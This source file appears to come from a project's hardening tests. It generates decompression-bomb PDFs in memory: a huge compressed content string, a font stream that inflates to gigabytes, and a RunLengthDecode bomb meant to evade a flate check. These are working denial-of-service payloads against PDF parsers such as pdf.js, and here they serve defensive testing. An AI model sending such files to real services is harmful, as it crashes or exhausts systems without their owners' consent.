// Builds hostile PDFs in memory (decompression bombs in a content string and in an embedded font), for the hardening tests and scripts/attack.mjs.
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/**
 * A minimal PDF: numbered objects, a cross-reference table and a trailer pointing at object 1 (the catalog).
 * @param {(string | Buffer)[]} objects
 * @returns {Buffer}
 */
export function buildPdf(objects) {
  const parts = [Buffer.from('%PDF-1.7\n')];
  const offsets = [];
  let position = parts[0].length;
  objects.forEach((object, i) => {
    offsets.push(position);
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(object) ? object : Buffer.from(object), Buffer.from('\nendobj\n')]);
    parts.push(chunk);
    position += chunk.length;
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) xref += `${String(offset).padStart(10, '0')} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${position}\n%%EOF\n`;
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

/** A flate-compressed stream object. */
function flateStream(dict, data) {
  const body = deflateSync(data, { level: 9 });
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${body.length} /Filter /FlateDecode >>\nstream\n`), body, Buffer.from('\nendstream')]);
}

const PAGE_TREE = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'];
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';

/**
 * One page whose content stream shows a single string of `mib` MiB (140 MiB: V8's "invalid size" fatal error in pdf.js).
 * @param {number} mib
 */
export function contentStringBomb(mib) {
  const content = Buffer.concat([Buffer.from('BT /F1 12 Tf 72 720 Td ('), Buffer.alloc(mib * 1024 * 1024, 'A'), Buffer.from(') Tj ET')]);
  return buildPdf([...PAGE_TREE, PAGE, flateStream('', content), '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']);
}

/**
 * One page of letter text whose embedded TrueType font inflates to `mib` MiB of zeros (3,000 MiB from a 3 MB file).
 * @param {number} mib
 */
export function fontBomb(mib) {
  const content = Buffer.from('BT /F1 12 Tf 72 720 Td (Dear Sir: 1. Please revise your disclosure.) Tj ET');
  return buildPdf([
    ...PAGE_TREE,
    PAGE,
    flateStream('', content),
    '<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>',
    zerosStream(`/Length1 ${mib * 1024 * 1024}`, mib),
  ]);
}

/**
 * A flate stream of `mib` MiB of zeros, made in milliseconds: after a full flush deflate forgets
 * its history, so each MiB of zeros compresses to the same bytes, which are repeated.
 */
function zerosStream(dict, mib) {
  const oneMiB = deflateRawSync(Buffer.alloc(1024 * 1024), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const last = deflateRawSync(Buffer.alloc(0));
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((mib * 1024 * 1024) % 65521) * 65536 + 1) >>> 0);
  const body = Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: mib }, () => oneMiB), last, adler]);
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${body.length} /Filter /FlateDecode >>\nstream\n`), body, Buffer.from('\nendstream')]);
}

/**
 * One page whose content string of `mib` MiB hides behind RunLengthDecode (128 bytes from 2): a
 * bomb the flate check cannot see, left to the memory watch.
 * @param {number} mib
 */
export function runLengthStringBomb(mib) {
  const literal = (text) => Buffer.concat([Buffer.from([text.length - 1]), Buffer.from(text)]);
  const runs = Buffer.alloc(Math.ceil((mib * 1024 * 1024) / 128) * 2);
  for (let i = 0; i < runs.length; i += 2) (runs[i] = 129), (runs[i + 1] = 0x41); // 257 - 129 = 128 copies of "A"
  const data = Buffer.concat([literal('BT /F1 12 Tf 72 720 Td ('), runs, literal(') Tj ET'), Buffer.from([128])]);
  const stream = Buffer.concat([Buffer.from(`<< /Length ${data.length} /Filter /RunLengthDecode >>\nstream\n`), data, Buffer.from('\nendstream')]);
  return buildPdf([...PAGE_TREE, PAGE, stream, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']);
}
